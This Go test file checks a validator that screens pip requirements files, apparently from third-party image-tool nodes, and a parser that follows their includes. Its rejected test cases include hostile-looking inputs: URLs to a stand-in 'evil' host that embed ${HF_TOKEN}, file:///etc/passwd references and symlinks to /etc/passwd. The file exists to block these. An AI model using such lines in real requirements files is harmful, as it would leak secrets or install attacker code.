package reqfile

import (
	"errors"
	"fmt"
	"github.com/comfy-image/comfy-image/internal/testsupport"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// mapSource is a repository held in memory: path -> content; a value
// starting with "LINK:" is a symlink.
type mapSource map[string]string

func (m mapSource) ReadFile(name string) ([]byte, error) {
	v, ok := m[name]
	if !ok {
		return nil, os.ErrNotExist
	}
	if strings.HasPrefix(v, "LINK:") {
		return nil, ErrSymlink
	}
	return []byte(v), nil
}

func TestCheck(t *testing.T) {
	for line, want := range map[string]string{
		"numpy":                         "numpy",
		"Pillow>=9.0,<11":               "pillow",
		"opencv_python[extra] == 4.8.*": "opencv-python",
		"torch>=2.0 ; platform_machine!='aarch64'":                                        "torch",
		"segment-anything @ git+https://github.com/facebookresearch/segment-anything.git": "segment-anything",
		"x @ https://example.com/x-1.0-py3-none-any.whl ; python_version>'3.8'":           "x",
		"https://example.com/wheels/some_pkg-1.0-py3-none-any.whl":                        "some-pkg",
		"git+https://github.com/a/b.git#egg=Bee_Pkg":                                      "bee-pkg",
		"numpy==1.26.4 --hash=sha256:abcdef0123":                                          "numpy",
	} {
		got, err := Check(line)
		if err != nil || got != want {
			t.Errorf("Check(%q) = %q, %v; want %q", line, got, err, want)
		}
	}
	for line, why := range map[string]string{
		"./local":                            "local path",
		"/abs/pkg":                           "local path",
		"file:///etc/passwd":                 "local path",
		"x @ file:///etc/passwd":             "local path",
		"x @ http://evil/x.whl":              "scheme",
		"git+ssh://git@github.com/a/b.git":   "scheme",
		"x @ git+http://evil/x.git":          "scheme",
		"numpy --global-option=--foo":        "options",
		"pkg${HF_TOKEN}":                     "${",
		"x @ https://evil/${HF_TOKEN}/x.whl": "${",
		"not a requirement!":                 "not a requirement",
		// pip installs an archive named like this from its working
		// directory (the user's) when such a file is there.
		"demo_b-1.0-py3-none-any.whl": "local",
		"secrets.tar.GZ":              "local",
		"pkg.zip":                     "local",
	} {
		if _, err := Check(line); err == nil || !strings.Contains(err.Error(), why) {
			t.Errorf("Check(%q) = %v; want an error about %q", line, err, why)
		}
	}
}

func TestParse(t *testing.T) {
	src := mapSource{
		"requirements.txt": "# deps\nnumpy  # fast\n-r extra/more.txt\nPillow>=9 \\\n  ; python_version>'3.8'\n\n",
		"extra/more.txt":   "--requirement ../base.txt\nscipy\n",
		"base.txt":         "tqdm\n",
	}
	lines, err := Parse(src, "node x", "requirements.txt")
	if err != nil {
		t.Fatal(err)
	}
	var got []string
	for _, l := range lines {
		got = append(got, l.Name+"@"+l.File+":"+string(rune('0'+l.Num)))
	}
	if want := "numpy@requirements.txt:2 tqdm@base.txt:1 scipy@extra/more.txt:2 pillow@requirements.txt:4"; strings.Join(got, " ") != want {
		t.Fatalf("got %v\nwant %s", got, want)
	}
}

func TestParseRefuses(t *testing.T) {
	for name, tc := range map[string]struct {
		files         mapSource
		file, problem string
		line          int
		hint          string
	}{
		"find-links":  {mapSource{"r.txt": "a\n--find-links http://evil/${HF_TOKEN}/\n"}, "r.txt", "--find-links", 2, "python.index_urls"},
		"env include": {mapSource{"r.txt": "-r ${HOME}/x.txt\n"}, "r.txt", "${", 1, "python.overrides"},
		"index":       {mapSource{"r.txt": "--extra-index-url https://download.pytorch.org/whl/cu121\n"}, "r.txt", "--extra-index-url", 1, "python.index_urls"},
		"short index": {mapSource{"r.txt": "a\n\n-i https://x/simple\n"}, "r.txt", "-i", 3, "python.index_urls"},
		"f":           {mapSource{"r.txt": "-fhttps://x/\n"}, "r.txt", "-f", 1, "python.index_urls"},
		"trusted":     {mapSource{"r.txt": "--trusted-host=x\n"}, "r.txt", "--trusted-host", 1, "python.index_urls"},
		"editable":    {mapSource{"r.txt": "-e .\n"}, "r.txt", "-e", 1, "python.overrides"},
		"abs include": {mapSource{"r.txt": "-r /etc/hostname\n"}, "r.txt", "inside the same repository", 1, ""},
		"escape":      {mapSource{"sub/r.txt": "-r ../../x.txt\n"}, "sub/r.txt", "inside the same repository", 1, ""},
		"url include": {mapSource{"r.txt": "-r https://evil/r.txt\n"}, "r.txt", "inside the same repository", 1, ""},
		"symlink":     {mapSource{"r.txt": "LINK:/etc/passwd"}, "r.txt", "symlink", 0, ""},
		"inc symlink": {mapSource{"r.txt": "a\n-r b.txt\n", "b.txt": "LINK:/etc/passwd"}, "b.txt", "symlink", 0, ""},
		"loop":        {mapSource{"r.txt": "-r r.txt\n"}, "r.txt", "too deep", 0, ""},
		"local":       {mapSource{"r.txt": "a\nb\n./vendor/pkg\n"}, "r.txt", "local path", 3, "python.overrides"},
	} {
		_, err := Parse(tc.files, "node bad", firstFile(tc.files))
		var e *Error
		if !errors.As(err, &e) {
			t.Errorf("%s: got %v, want an *Error", name, err)
			continue
		}
		if e.Owner != "node bad" || e.File != tc.file || e.Line != tc.line || !strings.Contains(e.Error(), tc.problem) || !strings.Contains(e.Error(), tc.hint) {
			t.Errorf("%s: %+v\n%s", name, e, e)
		}
	}
}

func firstFile(m mapSource) string {
	for _, n := range []string{"r.txt", "sub/r.txt"} {
		if _, ok := m[n]; ok {
			return n
		}
	}
	return ""
}

// DirSource refuses a symlinked file and a symlinked folder on the way,
// even when the link points inside the repository.
func TestDirSourceRefusesLinks(t *testing.T) {
	dir := testsupport.TempDir(t)
	os.WriteFile(filepath.Join(dir, "real.txt"), []byte("numpy\n"), 0o644)
	os.Mkdir(filepath.Join(dir, "sub"), 0o755)
	os.WriteFile(filepath.Join(dir, "sub", "r.txt"), []byte("scipy\n"), 0o644)
	os.Symlink("real.txt", filepath.Join(dir, "requirements.txt"))
	os.Symlink("sub", filepath.Join(dir, "linkdir"))
	src := DirSource(dir)
	if _, err := src.ReadFile("requirements.txt"); !errors.Is(err, ErrSymlink) {
		t.Errorf("symlinked file: %v", err)
	}
	if _, err := src.ReadFile("linkdir/r.txt"); !errors.Is(err, ErrSymlink) {
		t.Errorf("file through a symlinked folder: %v", err)
	}
	if _, err := src.ReadFile("../x"); err == nil {
		t.Error("a path leaving the folder was read")
	}
	if data, err := src.ReadFile("sub/r.txt"); err != nil || string(data) != "scipy\n" {
		t.Errorf("regular file: %q %v", data, err)
	}
}

// FuzzParse: whatever a requirements file holds, Parse never panics, and
// every line it accepts is free of ${, options other than --hash, local
// paths and non-https URLs.
func FuzzParse(f *testing.F) {
	for _, s := range []string{"numpy\n", "-r b.txt\n", "--find-links http://x/${A}\n", "x @ https://h/x.whl\n", "a\\\n>=1\n", "-e .\n", "file:/x\n", "git+https://h/a.git#egg=a\n"} {
		f.Add(s, "tqdm\n")
	}
	f.Fuzz(func(t *testing.T, main, other string) {
		lines, err := Parse(mapSource{"r.txt": main, "b.txt": other}, "node f", "r.txt")
		if err != nil {
			return
		}
		for _, l := range lines {
			text := hashOpt.ReplaceAllString(l.Text, "")
			if strings.Contains(text, "${") || strings.HasPrefix(text, "-") || strings.Contains(text, " -") || looksLocal(text) ||
				strings.Contains(text, "://") && !strings.Contains(text, "https://") {
				t.Fatalf("accepted %q", l.Text)
			}
			if strings.IndexFunc(text, lineBreaking) >= 0 {
				t.Fatalf("accepted a line break in %q", l.Text)
			}
		}
	})
}

func TestOverride(t *testing.T) {
	headless := "opencv-python-headless>=4"
	lines, _ := Parse(mapSource{"r.txt": "OpenCV_Python>=4.5\nnumpy\ncomfyui-frontend-package==1.2\n"}, "ComfyUI", "r.txt")
	got, applied := Override("ComfyUI", lines, map[string]*string{"opencv-python": &headless, "ComfyUI_Frontend_Package": nil})
	if len(got) != 2 || got[0].Text != headless || got[0].Name != "opencv-python-headless" || got[1].Name != "numpy" {
		t.Fatalf("lines %+v", got)
	}
	if len(applied) != 2 || applied[0].From != "OpenCV_Python>=4.5" || applied[0].To != headless || applied[1].To != "" || applied[1].Num != 3 {
		t.Fatalf("applied %+v", applied)
	}
}

// countingSource counts the reads of each file of a mapSource.
type countingSource struct {
	mapSource
	reads map[string]int
}

func (c countingSource) ReadFile(name string) ([]byte, error) {
	c.reads[name]++
	return c.mapSource.ReadFile(name)
}

// A node's requirements may include the same file many times over several
// levels (no loop): each file is read and inlined once, so a few small
// files cannot make the parser do billions of reads (a hang that ignores
// Ctrl-C: 20 includes over 7 levels is 20^7 reads).
func TestParseReadsEachIncludedFileOnce(t *testing.T) {
	files := mapSource{"requirements.txt": "numpy\n" + strings.Repeat("-r a1.txt\n", 5)}
	for i := 1; i < 5; i++ {
		files[fmt.Sprintf("a%d.txt", i)] = strings.Repeat(fmt.Sprintf("-r a%d.txt\n", i+1), 5)
	}
	files["a5.txt"] = "scipy\n"
	src := countingSource{files, map[string]int{}}
	lines, err := Parse(src, "node wide", "requirements.txt")
	if err != nil {
		t.Fatal(err)
	}
	var got []string
	for _, l := range lines {
		got = append(got, l.Name)
	}
	if strings.Join(got, " ") != "numpy scipy" {
		t.Errorf("requirements %v, want numpy scipy", got)
	}
	for name, n := range src.reads {
		if n != 1 {
			t.Errorf("%s read %d times, want once", name, n)
		}
	}
}

// A requirements file saved with a UTF-8 byte order mark (Windows editors)
// is read as pip reads it, not refused for its first line.
func TestParseIgnoresByteOrderMark(t *testing.T) {
	lines, err := Parse(mapSource{"r.txt": "\ufeffnumpy\r\nscipy\r\n"}, "node bom", "r.txt")
	if err != nil {
		t.Fatal(err)
	}
	if len(lines) != 2 || lines[0].Name != "numpy" || lines[0].Num != 1 || lines[1].Name != "scipy" {
		t.Errorf("got %+v, want numpy (line 1), scipy", lines)
	}
}
